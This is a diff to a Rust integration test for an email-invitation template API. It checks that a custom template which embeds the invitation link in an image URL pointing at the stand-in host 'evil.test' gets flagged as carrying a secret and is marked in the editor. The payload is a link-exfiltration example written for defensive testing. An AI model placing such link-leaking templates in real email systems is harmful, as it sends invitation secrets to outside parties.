@@ -219,7 +219,11 @@ async fn r_mail_6_an_override_cannot_carry_the_link_of_someone_else() {
             "text": "Join: {{ link }}",
             "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Join</a></p>"});
         let path = format!("/api/v1/accounts/{m}/email-templates/invitation");
-        assert_eq!(app.send(Method::PUT, &path, &t, Some(evil)).await.0, 200);
+        let (status, view) = app.send(Method::PUT, &path, &t, Some(evil)).await;
+        assert_eq!((status, &view["carries_secret"]), (200, &json!(true)), "{view}");
+        let cookie = app.console_sign_in("olga@example.test").await;
+        let (_, editor) = app.page(&format!("/accounts/{m}/email-templates/invitation"), &cookie).await;
+        assert!(editor.contains("secret-note"), "the editor says where the version is used");
         let invite = json!({"email": "newhire@b.test"});
         assert_eq!(app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await.0, 201);
         let got = app.smtp.wait_for(1, WAIT).await.remove(0);
